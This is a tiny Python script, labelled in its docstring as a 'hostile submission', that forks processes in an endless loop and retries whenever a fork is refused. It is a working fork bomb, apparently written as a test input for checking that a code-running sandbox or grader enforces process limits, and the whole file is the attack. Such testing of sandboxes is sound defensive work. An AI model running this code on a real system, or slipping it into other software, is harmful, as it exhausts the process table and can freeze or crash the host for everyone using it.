"""Hostile submission: forks without end; every child forks too, and retries when refused."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
